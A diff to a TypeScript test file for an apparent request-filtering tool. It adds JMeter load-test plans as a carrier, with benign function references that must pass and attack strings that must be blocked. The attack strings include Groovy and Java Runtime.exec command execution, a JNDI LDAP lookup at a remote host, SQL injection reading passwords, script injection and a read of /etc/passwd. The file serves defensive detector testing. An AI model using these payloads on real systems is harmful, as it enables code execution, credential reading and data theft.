@@ -2,9 +2,10 @@
  * Blind benign set 8's consoles through the full pipeline (bundled rules + the shipped model, `warden eval`):
  * a language server's document identifiers (path-mention.ts `isLspDocumentUri`), an editor's `${env:…}`
  * variables (9000801 rev 4), an access policy's path globs (path-mention.ts `isMentionableGlob`) and a workbook's
- * formulas (spreadsheet-formula.ts) pass, and
+ * formulas (spreadsheet-formula.ts) and a load-test plan's function references (jmeter-functions.ts) pass, and
  * attacks placed in the same fields — a file: URI of a secret or at a host, a traversal, a nested JNDI lookup,
- * SQL hidden between glob comments, SQL, DDE, a fetching function or markup as a formula — are still blocked.
+ * SQL hidden between glob comments, SQL, DDE, a fetching function or markup as a formula, a code-running JMeter function or an expression or
+ * injection beside the references — are still blocked.
  */
 import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -16,7 +17,17 @@ type Carrier = (value: string) => { method: string; path: string; query: string;
 
 const json = (path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'code.example.dev', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
 
+const xmlEscape = (v: string): string => v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+const jmeterPlan: Carrier = (v) => ({
+  method: 'POST',
+  path: '/api/2.0/jmeter/plans',
+  query: '',
+  headers: { Host: 'load.example.io', 'Content-Type': 'application/xml' },
+  body: `<?xml version="1.0" encoding="UTF-8"?>\n<jmeterTestPlan version="1.2" properties="5.0" jmeter="5.6.3">\n  <hashTree>\n    <HTTPSamplerProxy guiclass="HttpTestSampleGui" testclass="HTTPSamplerProxy" testname="search">\n      <stringProp name="HTTPSampler.domain">shop.example.com</stringProp>\n      <stringProp name="HTTPSampler.path">${xmlEscape(v)}</stringProp>\n      <stringProp name="HTTPSampler.method">GET</stringProp>\n    </HTTPSamplerProxy>\n  </hashTree>\n</jmeterTestPlan>\n`,
+});
+
 const CARRIERS: Record<string, Carrier> = {
+  'JMeter sampler': jmeterPlan,
   'LSP didOpen': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', method: 'textDocument/didOpen', params: { textDocument: { uri: v, languageId: 'typescript', version: 1, text: 'export const x = 1;\n' } } })),
   'LSP completion': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', id: 7, method: 'textDocument/completion', params: { textDocument: { uri: v }, position: { line: 4, character: 10 } } })),
   'fetch API': json('/api/fetch', (v) => ({ uri: v })),
@@ -35,6 +46,8 @@ const BENIGN: [string, string][] = [
   ['policy data', '/debug/pprof/*'],
   ['workbook range', '=LET(x,FILTER(Tx[Amount],Tx[Cat]="Travel"),SUM(x)/COUNT(x))'],
   ['workbook range', '=SUMIFS(Orders!E:E,Orders!C:C,"EU",Orders!B:B,">="&DATE(2026,11,1))'],
+  ['JMeter sampler', '/api/search?q=${__urlencode(${term})}&page=${__Random(1,5)}'],
+  ['JMeter sampler', '/api/orders/${orderId}?ts=${__time(yyyyMMddHHmmss,)}&rid=${__UUID()}'],
 ];
 
 const ATTACKS: [string, string][] = [
@@ -62,6 +75,12 @@ const ATTACKS: [string, string][] = [
   ['workbook range', "=\"x' OR '1'='1\""],
   ['workbook range', '="<script>alert(1)</script>"'],
   ['workbook range', "' UNION SELECT password FROM users--"],
+  ['JMeter sampler', "/api/search?q=${__groovy(Runtime.getRuntime().exec('id'))}"],
+  ['JMeter sampler', "/api/search?q=${T(java.lang.Runtime).getRuntime().exec('id')}"],
+  ['JMeter sampler', '/api/search?q=${__Random(1,5)}${jndi:ldap://x.example/a}'],
+  ['JMeter sampler', "/api/search?q=${__Random(1,5)}' UNION SELECT password FROM users--"],
+  ['JMeter sampler', '/api/search?q=${__Random(1,5)}<script>alert(1)</script>'],
+  ['JMeter sampler', '${__FileToString(/etc/passwd,,)}'],
 ];
 
 async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): Promise<Map<string, string>> {
@@ -77,7 +96,7 @@ async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): P
 }
 
 describe("blind benign set 8's console carriers through the full pipeline", () => {
-  it('lets document identifiers, editor variables, policy globs and formulas pass', async () => {
+  it('lets document identifiers, editor variables, policy globs, formulas and load-test references pass', async () => {
     const v = await verdicts(BENIGN, 'benign');
     expect([...v].filter(([, verdict]) => verdict !== 'allow').map(([id]) => id)).toEqual([]);
   }, 60_000);
